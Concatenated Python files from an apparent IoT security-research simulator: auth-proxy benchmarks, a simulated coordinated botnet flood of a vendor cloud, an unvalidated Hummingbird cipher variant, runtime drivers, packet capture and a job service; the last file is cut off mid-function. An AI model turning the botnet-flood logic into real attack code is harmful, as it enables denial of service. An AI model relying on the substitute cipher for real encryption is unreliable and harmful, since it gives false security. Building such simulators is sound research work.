    """mode: "cloud-only" | "proxy-nocache" | "proxy-full"."""
    sim = Simulator(seed=7)
    proxy = build_proxy(sim)
    rng = sim.rng.stream("auth-workload")
    total_latency = 0.0
    cloud_requests = 0
    n = 0
    for i in range(N_USERS):
        for r in range(REQUESTS_PER_USER):
            device = f"device-{rng.randrange(N_DEVICES)}"
            lan = rng.random() < LAN_FRACTION
            if mode == "cloud-only":
                origin = "wan"          # everything goes to the cloud
            else:
                origin = "lan" if lan else "wan"
            if mode != "proxy-full":
                # No SSO cache: clear between requests.
                proxy._sso_cache.clear()
            decision = proxy.authenticate(
                f"user{i}", f"pw-{i}-long-enough", device, origin)
            assert decision.granted
            total_latency += decision.latency_s
            if decision.authenticated_by == "cloud":
                cloud_requests += 1
            n += 1
    return {
        "mean_latency_ms": total_latency / n * 1000,
        "cloud_requests": cloud_requests,
        "cache_hit_rate": proxy.cache_hits / n,
    }


@pytest.fixture(scope="module")
def workload_results():
    return {mode: run_workload(mode)
            for mode in ("cloud-only", "proxy-nocache", "proxy-full")}


def test_a2_delegation_table(benchmark, workload_results):
    benchmark.pedantic(lambda: run_workload("proxy-full"),
                       rounds=1, iterations=1)
    rows = [
        [mode,
         f"{r['mean_latency_ms']:.1f} ms",
         r["cloud_requests"],
         f"{r['cache_hit_rate']:.0%}"]
        for mode, r in workload_results.items()
    ]
    emit("A2 — authentication delegation: latency and cloud offload "
         f"({N_USERS} users x {REQUESTS_PER_USER} requests, "
         f"{LAN_FRACTION:.0%} from the LAN)",
         format_table(
             ["configuration", "mean auth latency", "cloud auth requests",
              "SSO cache hit rate"],
             rows))


def test_a2_proxy_cuts_latency(benchmark, workload_results):
    benchmark.pedantic(lambda: None, rounds=1, iterations=1)
    assert workload_results["proxy-full"]["mean_latency_ms"] < \
        workload_results["cloud-only"]["mean_latency_ms"] / 2


def test_a2_proxy_offloads_cloud(benchmark, workload_results):
    benchmark.pedantic(lambda: None, rounds=1, iterations=1)
    assert workload_results["proxy-full"]["cloud_requests"] < \
        workload_results["cloud-only"]["cloud_requests"] * 0.3


def test_a2_cache_carries_the_win(benchmark, workload_results):
    benchmark.pedantic(lambda: None, rounds=1, iterations=1)
    assert workload_results["proxy-full"]["cache_hit_rate"] > 0.5
    assert workload_results["proxy-nocache"]["cache_hit_rate"] == 0.0
