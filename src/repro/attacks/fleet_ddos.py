"""Coordinated fleet DDoS: the assembled botnet floods the cloud.

The second act of the epidemic (§II): once homes hold bots (usually
planted by :mod:`repro.attacks.worm` or a local Mirai run), the origin
home broadcasts a ``ddos-order`` over the exchange and every home's
bots flood their vendor cloud's device-ingest port in the same epoch —
a synchronized, fleet-wide volumetric attack.

The cloud must *degrade, not crash*: `CloudPlatform`'s ingest rate
limiter sheds the excess, flips the platform into an overloaded state
(REST API answers 503), and XLF surfaces the episode through the
fault-aware correlator (service layer marked stale + an ingest-flood
signal) until a quiet window clears it.
"""

from __future__ import annotations

from typing import List

from repro.attacks.base import Attack, AttackOutcome
from repro.scenarios.spec import register_attack
from repro.device.device import IoTDevice
from repro.network.packet import Packet


@register_attack
class FleetDdos(Attack):
    """Botnet flood against the vendor cloud, coordinated fleet-wide."""

    name = "fleet-ddos"
    cross_home = True
    surface_layers = ("network", "service")
    table_ii_row = (
        "Unmetered device ingest + assembled botnet",
        "Coordinated cross-home flood of the cloud platform",
        "Platform overload: shed ingest, 503 APIs",
    )

    def __init__(self, home, start_after_s: float = 90.0,
                 rate_pps: float = 80.0, duration_s: float = 45.0):
        super().__init__(home)
        self.start_after_s = start_after_s
        self.rate_pps = rate_pps
        self.duration_s = duration_s
        self.packets_sent = 0
        self.orders_received = 0
        self._flooding = False
        self._bots_used: List[str] = []

    # -- lifecycle ---------------------------------------------------------
    def _launch(self) -> None:
        self.fleet.on("ddos-order", self._on_order)
        if self.is_origin:
            self.sim.call_in(self.start_after_s, self._issue_order)

    def _issue_order(self) -> None:
        """Origin: broadcast the order, then join the flood itself."""
        params = {"rate_pps": self.rate_pps, "duration_s": self.duration_s}
        self.fleet.broadcast("ddos-order", params)
        self._start_flood(params)

    def _on_order(self, message) -> None:
        self.orders_received += 1
        self._start_flood(message.payload)

    # -- the flood ---------------------------------------------------------
    def _start_flood(self, params: dict) -> None:
        if self._flooding:
            return
        self._flooding = True
        # The order stays standing for its whole window: a home whose
        # bots arrive late (the worm is still spreading) joins the
        # flood as soon as it is conscripted, for the time remaining.
        end = self.sim.now + float(params.get("duration_s",
                                              self.duration_s))
        self.sim.process(self._await_bots(params, end), name="ddos:await")

    def _await_bots(self, params: dict, end: float):
        while self.sim.now < end:
            bots = [d for d in self.home.devices if d.infected]
            if bots:
                self._bots_used = [d.name for d in bots]
                for device in bots:
                    self.sim.process(self._flood(device, params, end),
                                     name=f"ddos:{device.name}")
                return
            yield self.sim.timeout(5.0)

    def _flood(self, device, params: dict, end: float):
        rate = float(params.get("rate_pps", self.rate_pps))
        interval = 1.0 / rate
        while self.sim.now < end and device.infected:
            # Junk telemetry at the real ingest port: it passes the
            # cloud's handler lookup and burns admission-control budget
            # exactly like legitimate traffic would.
            device.send(Packet(
                src="", dst=device.cloud_address,
                sport=31337, dport=IoTDevice.CLOUD_PORT,
                protocol="tcp", app_protocol="mqtt", size_bytes=512,
                payload={"device_id": device.device_id, "kind": "telemetry",
                         "state": "", "readings": {}},
                encrypted=False,
            ))
            self.packets_sent += 1
            yield self.sim.timeout(interval)

    # -- ground truth ------------------------------------------------------
    def outcome(self) -> AttackOutcome:
        cloud = self.home.cloud
        prefix = f"home{self.fleet.home_index:02d}/"
        return AttackOutcome(
            succeeded=cloud.rate_limited_packets > 0,
            compromised_devices={prefix + name
                                 for name in self._bots_used},
            details={f"home{self.fleet.home_index:02d}": {
                "orders_received": self.orders_received,
                "packets_sent": self.packets_sent,
                "bots": sorted(self._bots_used),
                "rate_limited": cloud.rate_limited_packets,
                "overloaded_now": cloud.overloaded,
            }},
        )
