"""Hummingbird and Hummingbird-2 (structure-faithful variants).

The Hummingbird family encrypts 16-bit blocks with a 256-bit key using
four SPN rounds per 16-bit sub-cipher invocation, plus rotor-machine
internal state.  This module implements the same shape: 16-bit block,
256-bit key, 4-round 16-bit SPN sub-cipher, and (for Hummingbird-2) a
128-bit evolving internal state.  The original 4-bit S-boxes and exact
state-update polynomials are replaced with equivalent-strength published
S-boxes (PRESENT's), so both register ``validated=False``.

Because the cipher is stateful, the block API here exposes the
*stateless* 16-bit sub-cipher (what the performance benchmarks measure);
:class:`Hummingbird2Session` exposes the stateful stream usage.
"""

from __future__ import annotations

from typing import List

from repro.crypto.base import BlockCipher, rotl

_SBOX = [0xC, 0x5, 0x6, 0xB, 0x9, 0x0, 0xA, 0xD, 0x3, 0xE, 0xF, 0x8, 0x4, 0x7, 0x1, 0x2]
_INV_SBOX = [0] * 16
for _i, _s in enumerate(_SBOX):
    _INV_SBOX[_s] = _i

_MASK16 = 0xFFFF


def _sub16(x: int, box) -> int:
    return (
        box[x & 0xF]
        | (box[(x >> 4) & 0xF] << 4)
        | (box[(x >> 8) & 0xF] << 8)
        | (box[(x >> 12) & 0xF] << 12)
    )


def _lin16(x: int) -> int:
    return x ^ rotl(x, 6, 16) ^ rotl(x, 10, 16)


def _lin16_inv(x: int) -> int:
    # The linear map is an involution-free F2-linear map; invert by
    # precomputed matrix inverse (computed once below).
    return _LIN_INV_TABLE_HI[x >> 8] ^ _LIN_INV_TABLE_LO[x & 0xFF]


def _build_linear_inverse():
    # Solve the 16x16 binary matrix inverse of _lin16 by Gaussian elimination.
    cols = [_lin16(1 << i) for i in range(16)]
    # Represent as augmented rows over GF(2): find M^-1 applied to basis.
    matrix = []
    for i in range(16):
        row = 0
        for j in range(16):
            if (cols[j] >> i) & 1:
                row |= 1 << j
        matrix.append(row)
    identity = [1 << i for i in range(16)]
    for col in range(16):
        pivot = next(r for r in range(col, 16) if (matrix[r] >> col) & 1)
        matrix[col], matrix[pivot] = matrix[pivot], matrix[col]
        identity[col], identity[pivot] = identity[pivot], identity[col]
        for r in range(16):
            if r != col and (matrix[r] >> col) & 1:
                matrix[r] ^= matrix[col]
                identity[r] ^= identity[col]
    # identity now holds rows of M^-1; build lookup tables for speed.
    def apply_inv(x):
        out = 0
        for i in range(16):
            if bin(identity[i] & x).count("1") & 1:
                out |= 1 << i
        return out

    hi = [apply_inv(v << 8) for v in range(256)]
    lo = [apply_inv(v) for v in range(256)]
    return hi, lo


_LIN_INV_TABLE_HI, _LIN_INV_TABLE_LO = _build_linear_inverse()


class Hummingbird(BlockCipher):
    """Stateless Hummingbird sub-cipher: 16-bit block, 256-bit key, 4 rounds."""

    name = "Hummingbird"
    block_size_bits = 16
    key_size_bits = (256,)
    structure = "SPN"
    num_rounds = 4

    def _setup(self, key: bytes) -> None:
        # Five 16-bit round keys per the 4-round SPN (4 rounds + whitening),
        # drawn from the 256-bit key.
        words = [int.from_bytes(key[i : i + 2], "big") for i in range(0, 32, 2)]  # noqa: E203
        self._rk: List[int] = [
            words[0] ^ words[5],
            words[1] ^ words[6],
            words[2] ^ words[7],
            words[3] ^ words[8],
            words[4] ^ words[9],
        ]

    def encrypt_block(self, block: bytes) -> bytes:
        x = int.from_bytes(self._check_block(block), "big")
        for rnd in range(4):
            x ^= self._rk[rnd]
            x = _sub16(x, _SBOX)
            x = _lin16(x)
        x ^= self._rk[4]
        return x.to_bytes(2, "big")

    def decrypt_block(self, block: bytes) -> bytes:
        x = int.from_bytes(self._check_block(block), "big")
        x ^= self._rk[4]
        for rnd in range(3, -1, -1):
            x = _lin16_inv(x)
            x = _sub16(x, _INV_SBOX)
            x ^= self._rk[rnd]
        return x.to_bytes(2, "big")


class Hummingbird2(Hummingbird):
    """Stateless Hummingbird-2 sub-cipher (same block profile)."""

    name = "Hummingbird2"

    def _setup(self, key: bytes) -> None:
        words = [int.from_bytes(key[i : i + 2], "big") for i in range(0, 32, 2)]  # noqa: E203
        self._rk = [
            words[10] ^ words[15],
            words[11] ^ words[12],
            words[13] ^ words[14],
            words[0] ^ words[3],
            words[1] ^ words[2],
        ]


class Hummingbird2Session:
    """Stateful Hummingbird-2 usage: a 64-bit rotor state evolves per block.

    Same plaintext blocks encrypt to different ciphertexts over a session,
    which is the property the original design uses for its tiny block size.
    """

    def __init__(self, key: bytes, iv: int = 0):
        self._cipher = Hummingbird2(key)
        if not 0 <= iv < 1 << 64:
            raise ValueError("IV must fit in 64 bits")
        self._state = [
            (iv >> 48) & _MASK16,
            (iv >> 32) & _MASK16,
            (iv >> 16) & _MASK16,
            iv & _MASK16,
        ]

    def _advance(self, plain_word: int) -> None:
        s = self._state
        s[0] = (s[0] + plain_word) & _MASK16
        s[1] = (s[1] + rotl(s[0], 3, 16)) & _MASK16
        s[2] = s[2] ^ s[1]
        s[3] = (s[3] + s[2] + 1) & _MASK16

    def encrypt_word(self, word: int) -> int:
        masked = (word + self._state[0]) & _MASK16
        ct = int.from_bytes(
            self._cipher.encrypt_block(masked.to_bytes(2, "big")), "big"
        )
        ct = (ct + self._state[3]) & _MASK16
        self._advance(word)
        return ct

    def decrypt_word(self, word: int) -> int:
        inner = (word - self._state[3]) & _MASK16
        pt = int.from_bytes(
            self._cipher.decrypt_block(inner.to_bytes(2, "big")), "big"
        )
        pt = (pt - self._state[0]) & _MASK16
        self._advance(pt)
        return pt
