"""Thin drivers: the serial and parallel fast paths over the runtime.

:func:`run_fast_path` is the body of
:func:`~repro.scenarios.spec.run_spec` for specs without cross-home
exchange (the lockstep engine in :mod:`repro.scenarios.exchange` is the
third driver).  A journal-off run executes exactly the pre-runtime code
path — ``run_home`` per home, fork-sharded workers — under a supervisor
whose bus events go nowhere.  A journal-on run takes that same straight
path and derives each home's journal records from its completed result
(:func:`~repro.runtime.actors.derived_home_events`); only an
``on_epoch`` interruption hook — the server's cancellation seam, the
replayer's ``--until-alert`` stop — epoch-chunks homes through live
:class:`~repro.runtime.actors.HomeActor`\\ s, which journal the same
stream record-for-record.  Either way the observations are
byte-identical (epoch-chunked advancement processes exactly the same
events as one straight run; the perf gate in ``BENCH_fleet.json`` pins
journal overhead ≤ 5%).

Crash recovery: a home whose forked worker died is restarted in-parent
as a supervised actor and re-run epoch by epoch (``actor-crash`` /
``actor-restart`` journal records); determinism makes the resumed
observations byte-identical to an unfailed run.
"""

from __future__ import annotations

import multiprocessing
import os
import time
from concurrent.futures import ProcessPoolExecutor
from typing import Callable, Dict, List, Optional, Set

from repro.runtime.actors import (
    HomeActor,
    Supervisor,
    derived_home_events,
    epoch_boundaries,
)
from repro.scenarios.prototype import PROTOTYPES
from repro import telemetry as _telemetry
from repro.telemetry import MetricsRegistry


def run_fast_path(spec, workers, max_home_retries, retry_backoff_s,
                  on_home, on_epoch, journal, cross_indices):
    """Serial / fork-parallel execution of a no-exchange spec under a
    supervisor.  See :func:`repro.scenarios.spec.run_spec` for the
    public contract; this function assumes the spec is validated."""
    from repro.scenarios.spec import ScenarioResult

    n_homes = len(spec.homes)
    if workers is None:
        workers = os.cpu_count() or 1
    workers = min(workers, max(n_homes, 1))
    serial = workers <= 1 or n_homes <= 1 or not _fork_available()

    supervisor = Supervisor(spec, journal=journal,
                            engine="serial" if serial else "parallel",
                            workers=1 if serial else workers)
    result = ScenarioResult(spec=spec, features={}, device_types={},
                            infected=set(), outcomes=[], alerts=[])
    outcomes: Dict[int, object] = {}
    try:
        supervisor.open()
        if serial:
            _run_serial(spec, supervisor, result, outcomes, cross_indices,
                        on_home, on_epoch)
        else:
            _run_parallel(spec, supervisor, result, outcomes, cross_indices,
                          on_home, on_epoch, workers, max_home_retries,
                          retry_backoff_s)
        result.outcomes = [outcomes.get(i) for i in range(len(spec.attacks))]
        supervisor.close(result)
    except BaseException as exc:
        supervisor.abort(f"{type(exc).__name__}: {exc}")
        raise
    finally:
        supervisor.release()
    if result.telemetry is not None:
        # Fold the merged telemetry into the process registry so a CLI
        # --telemetry export sees spec runs too.
        _telemetry.registry().merge(result.telemetry)
    return result


def _fork_available() -> bool:
    from repro.scenarios.spec import fork_available
    return fork_available()


def _run_chunked(spec, index, supervisor, boundaries, on_epoch):
    """One home, epoch by epoch, under live supervision: the journaled
    serial path and the crash-resume path share this loop."""
    local = MetricsRegistry() if _telemetry.ENABLED else None
    actor = HomeActor(spec, index, registry=local,
                      collect_events=supervisor.journaling)
    actor.start()
    for epoch, until in enumerate(boundaries):
        _, _, events = actor.advance_epoch(epoch, until)
        supervisor.observe(events)
        supervisor.epoch_boundary(epoch, until, on_epoch=on_epoch,
                                  home=index)
    return actor.finish()


def _run_serial(spec, supervisor, result, outcomes, cross_indices,
                on_home, on_epoch):
    from repro.scenarios.spec import _merge_home

    # Epoch-chunked execution exists for the interruption seam: only an
    # on_epoch hook (server cancellation, replay --until-alert) needs
    # the run stopped at boundaries.  A journal alone rides the straight
    # run_home path and derives its records per home — byte-identical
    # stream, none of the chunking overhead (see bench_journal_overhead).
    chunked = on_epoch is not None
    boundaries = (epoch_boundaries(spec)
                  if chunked or supervisor.journaling else None)
    for index in range(len(spec.homes)):
        supervisor.emit("actor-start", home=index)
        if chunked:
            home = _run_chunked(spec, index, supervisor, boundaries,
                                on_epoch)
        else:
            home = HomeActor(spec, index).run_once()
            if supervisor.journaling:
                supervisor.observe(derived_home_events(home, boundaries))
        supervisor.emit("actor-done", home=index, alerts=len(home.alerts),
                        infected=len(home.infected))
        _merge_home(result, home, outcomes, cross_indices)
        if on_home is not None:
            on_home(home)


def _run_parallel(spec, supervisor, result, outcomes, cross_indices,
                  on_home, on_epoch, workers, max_home_retries,
                  retry_backoff_s):
    from repro.scenarios.spec import _home_task, _merge_home

    n_homes = len(spec.homes)
    # Warm the prototype cache for every distinct topology before
    # forking: the snapshots ride into the workers via copy-on-write
    # pages, so no worker pays the first-build cost.
    if PROTOTYPES.enabled:
        for home_spec in spec.homes:
            PROTOTYPES.warm(home_spec)
    context = multiprocessing.get_context("fork")
    homes: List[Optional[object]] = [None] * n_homes
    errors: Dict[int, str] = {}
    with ProcessPoolExecutor(max_workers=workers,
                             mp_context=context) as pool:
        # Futures collected in submission order, which is home order —
        # exactly the serial merge order.  Workers inherit the telemetry
        # enable flag through fork and record into worker-local
        # registries, so each result carries its home's snapshot and the
        # merge here is identical to serial.
        futures = [pool.submit(_home_task, (spec, index))
                   for index in range(n_homes)]
        for index, future in enumerate(futures):
            try:
                homes[index] = future.result()
            except Exception as exc:
                # Worker died (BrokenProcessPool) or the task raised;
                # leave the slot empty for a supervised resume.
                errors[index] = f"{type(exc).__name__}: {exc}"
                if _telemetry.ENABLED:
                    _telemetry.registry().counter(
                        "fleet.home_worker_failures",
                        home=f"{index:02d}").inc()
    boundaries = epoch_boundaries(spec) if supervisor.journaling else None
    for index, home in enumerate(homes):
        supervisor.emit("actor-start", home=index)
        if home is None:
            supervisor.emit("actor-crash", homes=[index], epoch=None,
                            error=errors.get(index, "worker died"))
            home = _resume_home(spec, index, supervisor, boundaries,
                                on_epoch, max_home_retries, retry_backoff_s)
            home.degraded = True
        elif supervisor.journaling:
            # Workers return whole homes; derive the per-event records a
            # live actor would have journaled, in the same global order.
            supervisor.observe(derived_home_events(home, boundaries))
        supervisor.emit("actor-done", home=index, alerts=len(home.alerts),
                        infected=len(home.infected))
        _merge_home(result, home, outcomes, cross_indices)
        if on_home is not None:
            on_home(home)


def _resume_home(spec, index, supervisor, boundaries, on_epoch,
                 max_home_retries, retry_backoff_s):
    """Journal-resume for the fast path: restart the dead home's actor
    in-parent and re-run it epoch by epoch.  Determinism (each home is a
    pure function of ``spec.seed + index``) makes the resumed
    observations byte-identical to an unfailed run."""
    from repro.scenarios.spec import SpecError, run_home

    supervisor.emit("actor-restart", homes=[index], resumed_epoch=0)
    last_error: Optional[BaseException] = None
    for attempt in range(max_home_retries):
        if attempt:
            time.sleep(retry_backoff_s * (2 ** (attempt - 1)))
        # Retry accounting goes to the *parent* process registry, never
        # the home-local one, so a crash-free parallel run stays
        # byte-identical to serial.
        if _telemetry.ENABLED:
            _telemetry.registry().counter(
                "fleet.home_retries", home=f"{index:02d}").inc()
        try:
            if supervisor.journaling:
                return _run_chunked(spec, index, supervisor, boundaries,
                                    on_epoch)
            return run_home(spec, index)
        except Exception as exc:
            last_error = exc
    raise SpecError(
        f"home {index} failed after {max_home_retries} serial retries"
    ) from last_error
