"""Traffic capture: packet logs and flow records.

The substrate both sides consume: XLF's network monitor aggregates flow
records for anomaly detection, and the Apthorpe-style passive adversary
reads the same capture to infer device identity and activity.  Captures
observe packets via link observer taps, so they see sizes, timing, and
addressing — and payloads only when packets are unencrypted.
"""

from __future__ import annotations

from collections import defaultdict
from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional

from repro.network.packet import FlowKey, Packet
from repro.sim import Simulator


@dataclass
class CapturedPacket:
    """What a passive observer can record about one packet."""

    timestamp: float
    src: str
    dst: str
    sport: int
    dport: int
    protocol: str
    app_protocol: str
    size_bytes: int
    encrypted: bool
    payload: object  # None when the packet was encrypted
    src_device: str  # ground truth, used only for scoring adversaries


@dataclass
class FlowRecord:
    """Aggregate statistics for one 5-tuple flow."""

    key: FlowKey
    first_seen: float
    last_seen: float
    packets: int = 0
    bytes: int = 0
    sizes: List[int] = field(default_factory=list)
    timestamps: List[float] = field(default_factory=list)

    @property
    def duration(self) -> float:
        return self.last_seen - self.first_seen

    @property
    def mean_size(self) -> float:
        return self.bytes / self.packets if self.packets else 0.0

    def rate_bps(self) -> float:
        if self.duration <= 0:
            return 0.0
        return self.bytes * 8 / self.duration

    def inter_arrival_times(self) -> List[float]:
        return [
            b - a for a, b in zip(self.timestamps, self.timestamps[1:])
        ]


class PacketCapture:
    """A passive tap aggregating packets and flows.

    Attach to one or more links with ``link.add_observer(capture.observe)``.
    """

    def __init__(self, sim: Simulator, name: str = "capture",
                 keep_packets: bool = True,
                 packet_filter: Optional[Callable[[Packet], bool]] = None):
        self.sim = sim
        self.name = name
        self.keep_packets = keep_packets
        self.packet_filter = packet_filter
        self.packets: List[CapturedPacket] = []
        self.flows: Dict[FlowKey, FlowRecord] = {}
        self.total_packets = 0
        self.total_bytes = 0

    def observe(self, packet: Packet) -> None:
        if self.packet_filter is not None and not self.packet_filter(packet):
            return
        now = self.sim.now
        self.total_packets += 1
        self.total_bytes += packet.size_bytes
        if self.keep_packets:
            self.packets.append(CapturedPacket(
                timestamp=now,
                src=packet.src, dst=packet.dst,
                sport=packet.sport, dport=packet.dport,
                protocol=packet.protocol, app_protocol=packet.app_protocol,
                size_bytes=packet.size_bytes,
                encrypted=packet.encrypted,
                payload=None if packet.encrypted else packet.payload,
                src_device=packet.src_device,
            ))
        key = packet.flow_key
        flow = self.flows.get(key)
        if flow is None:
            flow = FlowRecord(key=key, first_seen=now, last_seen=now)
            self.flows[key] = flow
        flow.last_seen = now
        flow.packets += 1
        flow.bytes += packet.size_bytes
        flow.sizes.append(packet.size_bytes)
        flow.timestamps.append(now)

    # -- analysis helpers ----------------------------------------------------
    def flows_by_remote(self) -> Dict[str, List[FlowRecord]]:
        """Group flows by the external endpoint — step 1 of the Apthorpe
        inference (separate streams by external IP)."""
        grouped: Dict[str, List[FlowRecord]] = defaultdict(list)
        for key, flow in self.flows.items():
            grouped[key.dst].append(flow)
        return dict(grouped)

    def packets_between(self, start: float, end: float) -> List[CapturedPacket]:
        return [p for p in self.packets if start <= p.timestamp < end]

    def dns_queries(self) -> List[CapturedPacket]:
        """Cleartext DNS queries — the device-identification side channel."""
        return [
            p for p in self.packets
            if p.app_protocol == "dns" and not p.encrypted and p.payload is not None
        ]

    def clear(self) -> None:
        self.packets.clear()
        self.flows.clear()
        self.total_packets = 0
        self.total_bytes = 0
