"""Resident-activity workloads: realistic benign device usage.

Drives state changes with plausible daily rhythms so that (a) behaviour
profiles have something to learn, (b) traffic-analysis adversaries have
events to infer, and (c) detection metrics have true negatives.
"""

from __future__ import annotations

from typing import List, Optional, Tuple

from repro.scenarios.smarthome import SmartHome


class ResidentActivity:
    """Generates benign command activity on a SmartHome."""

    def __init__(self, home: SmartHome, rng_name: str = "resident"):
        self.home = home
        self.sim = home.sim
        self._rng = self.sim.rng.stream(rng_name)
        self.actions: List[Tuple[float, str, str]] = []  # (t, device, command)
        self._processes = []

    def start(self, mean_action_interval_s: float = 45.0) -> None:
        """One activity process per interactive device."""
        for device in self.home.devices:
            if device.spec.commands:
                process = self.sim.process(
                    self._activity_loop(device, mean_action_interval_s),
                    name=f"resident:{device.name}",
                )
                self._processes.append(process)

    def _activity_loop(self, device, mean_interval: float):
        commands = sorted(device.spec.commands)
        while True:
            wait = self._rng.expovariate(1.0 / mean_interval)
            yield self.sim.timeout(max(1.0, wait))
            command = self._rng.choice(commands)
            if device.execute_command(command):
                self.actions.append((self.sim.now, device.name, command))

    def trigger_motion(self, duration_s: float = 5.0) -> None:
        """Someone walks past the camera."""
        self.home.environment.set("motion", 1.0)
        self.sim.call_in(duration_s,
                         lambda: self.home.environment.set("motion", 0.0))

    def commands_issued(self, device_name: Optional[str] = None
                        ) -> List[Tuple[float, str, str]]:
        if device_name is None:
            return list(self.actions)
        return [a for a in self.actions if a[1] == device_name]
