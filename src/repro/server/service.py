"""The resident fleet service: queue workers, live telemetry, drain.

:class:`FleetService` is the sim-core-behind-a-facade piece: everything
the HTTP layer does goes through it, and nothing in it knows about
HTTP.  Jobs are :class:`~repro.server.jobs.Job`s pulled off a priority
:class:`~repro.server.jobs.JobQueue` by N asyncio worker tasks; each
job's ``run_spec`` executes on a worker *thread* (the event loop stays
free to serve status, SSE, and ``/metrics`` while simulations run),
inside a :func:`repro.telemetry.scoped_registry` block so concurrent
jobs never cross-contaminate their telemetry.

Determinism contract: a job is executed by the exact same
``run_spec(spec, workers=...)`` call the CLI makes, with a fresh
registry, so the ``observations`` section of its stored result is
byte-identical to a direct run of the same spec (see
:mod:`repro.server.store`).  The per-home progress hook only *reads*
each merged :class:`HomeRunResult` — and doubles as the cooperative
cancellation/timeout point, at home granularity.

Crash resilience rides on the PR-5 path: a job submitted with
``workers > 1`` whose forked worker dies mid-home is retried serially
inside ``run_spec`` — the job completes (flagging
``degraded_homes``) instead of being lost.
"""

from __future__ import annotations

import asyncio
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from typing import Any, Dict, List, Optional

from repro import telemetry
from repro.scenarios.spec import ScenarioSpec, SpecError, run_spec
from repro.server.jobs import (
    Job,
    JobInterrupted,
    JobQueue,
    JobState,
    QueueClosed,
)
from repro.server.store import ResultStore, result_to_dict
from repro.telemetry import MetricsRegistry
from repro.telemetry.export import to_prometheus

# Wall-clock job durations: wider than the latency-shaped default
# buckets (a full fleet job legitimately takes minutes).
JOB_DURATION_BUCKETS = (
    0.05, 0.1, 0.25, 0.5, 1.0, 2.5, 5.0, 10.0, 30.0, 60.0, 120.0, 300.0)


class ServiceDraining(RuntimeError):
    """Submission rejected: the service is shutting down."""


class UnknownJob(KeyError):
    """No job with that id was ever submitted."""


class FleetService:
    """Long-lived job runner over the spec engine.

    ``workers`` bounds how many jobs simulate concurrently (each job may
    additionally fork its own home-shard processes via its envelope's
    ``workers`` field).  All public methods that touch the queue or the
    job table must run on the service's event loop; ``metrics_text``
    and ``live`` merging are thread-safe because job threads report
    into them through a lock.
    """

    def __init__(self, workers: int = 2,
                 store: Optional[ResultStore] = None,
                 max_spec_homes: int = 10_000):
        if workers < 1:
            raise ValueError("FleetService needs at least one worker")
        self.workers = workers
        self.store = store if store is not None else ResultStore()
        self.max_spec_homes = max_spec_homes
        self.jobs: Dict[str, Job] = {}
        self.queue = JobQueue()
        self.draining = False
        self.started_at = time.time()
        # Live metrics: merged job telemetry + server-level counters.
        self.live = MetricsRegistry(max_spans=0)
        self._live_lock = threading.Lock()
        self._loop: Optional[asyncio.AbstractEventLoop] = None
        self._executor: Optional[ThreadPoolExecutor] = None
        self._worker_tasks: List[asyncio.Task] = []

    # -- lifecycle ---------------------------------------------------------
    async def start(self) -> None:
        """Bind to the running loop and launch the worker tasks."""
        telemetry.enable()
        self._loop = asyncio.get_running_loop()
        self._executor = ThreadPoolExecutor(
            max_workers=self.workers, thread_name_prefix="fleet-job")
        self._worker_tasks = [
            asyncio.create_task(self._worker(), name=f"fleet-worker-{i}")
            for i in range(self.workers)
        ]

    async def drain(self) -> None:
        """Graceful shutdown: refuse new jobs, finish accepted ones.

        Every job already accepted — queued or running — completes
        normally; SSE streams see their terminal events before the
        sockets close.
        """
        self.draining = True
        self.queue.close()
        if self._worker_tasks:
            await asyncio.gather(*self._worker_tasks)
        if self._executor is not None:
            self._executor.shutdown(wait=True)

    # -- submission and control (event-loop side) --------------------------
    def submit(self, spec_data: Dict[str, Any], *, priority: int = 0,
               workers: int = 1, timeout_s: Optional[float] = None,
               journal: Optional[str] = None) -> Job:
        """Validate and enqueue one scenario; raises
        :class:`~repro.scenarios.spec.SpecError` on a malformed spec and
        :class:`ServiceDraining` once shutdown began."""
        if self.draining:
            raise ServiceDraining("server is draining; job rejected")
        spec = ScenarioSpec.from_dict(spec_data)
        if len(spec.homes) > self.max_spec_homes:
            raise SpecError(
                f"spec has {len(spec.homes)} homes; this server accepts "
                f"at most {self.max_spec_homes}")
        if workers < 1:
            raise SpecError("job workers must be >= 1")
        if timeout_s is not None and timeout_s <= 0:
            raise SpecError("job timeout_s must be > 0")
        if journal is not None and not str(journal).strip():
            raise SpecError("job journal path must be non-empty")
        job = Job(spec, priority=priority, workers=workers,
                  timeout_s=timeout_s, journal_path=journal)
        job.events.bind(self._loop)
        self.jobs[job.id] = job
        try:
            self.queue.put(job)
        except QueueClosed:
            del self.jobs[job.id]
            raise ServiceDraining("server is draining; job rejected")
        job.events.append("queued", job=job.summary())
        with self._live_lock:
            self.live.counter("server.jobs_submitted").inc()
            self._update_queue_gauges()
        return job

    def get_job(self, job_id: str) -> Job:
        try:
            return self.jobs[job_id]
        except KeyError:
            raise UnknownJob(job_id) from None

    def cancel(self, job_id: str) -> Job:
        """Cancel a job.  Queued jobs die immediately; running jobs are
        interrupted cooperatively at their next home boundary.  Returns
        the job; raises :class:`UnknownJob` for unknown ids."""
        job = self.get_job(job_id)
        if job.terminal:
            return job
        job.cancel_requested = True
        if job.state is JobState.QUEUED:
            self._finish(job, JobState.CANCELLED)
            with self._live_lock:
                self._update_queue_gauges()
        else:
            job.events.append("cancel-requested", job_id=job.id)
        return job

    def job_summaries(self) -> List[Dict[str, Any]]:
        return [job.summary() for job in self.jobs.values()]

    # -- metrics -----------------------------------------------------------
    def metrics_text(self) -> str:
        """Prometheus text of the live registry: server counters plus
        the telemetry of every home completed so far."""
        with self._live_lock:
            self._update_queue_gauges()
            snap = self.live.snapshot()
        return to_prometheus(snap)

    def _update_queue_gauges(self) -> None:
        # Callers hold _live_lock.
        self.live.gauge("server.queue_depth").set(self.queue.depth())
        states: Dict[str, int] = {}
        for job in self.jobs.values():
            states[job.state.value] = states.get(job.state.value, 0) + 1
        for state in JobState:
            self.live.gauge("server.jobs",
                            state=state.value).set(states.get(state.value, 0))

    # -- execution (worker task -> worker thread) --------------------------
    async def _worker(self) -> None:
        while True:
            job = await self.queue.get()
            if job is None:
                return
            if job.terminal:       # cancelled while queued
                continue
            with self._live_lock:
                self._update_queue_gauges()
            await self._loop.run_in_executor(
                self._executor, self._execute, job)

    def _execute(self, job: Job) -> None:
        """Run one job to completion on this worker thread."""
        job.state = JobState.RUNNING
        job.started_at = time.time()
        job.events.append("started", job_id=job.id,
                          homes_total=job.homes_total)
        deadline = (time.monotonic() + job.timeout_s
                    if job.timeout_s is not None else None)

        def on_home(home) -> None:
            job.homes_done += 1
            job.alerts_seen += len(home.alerts)
            job.events.append(
                "home",
                home=home.home_index,
                homes_done=job.homes_done,
                homes_total=job.homes_total,
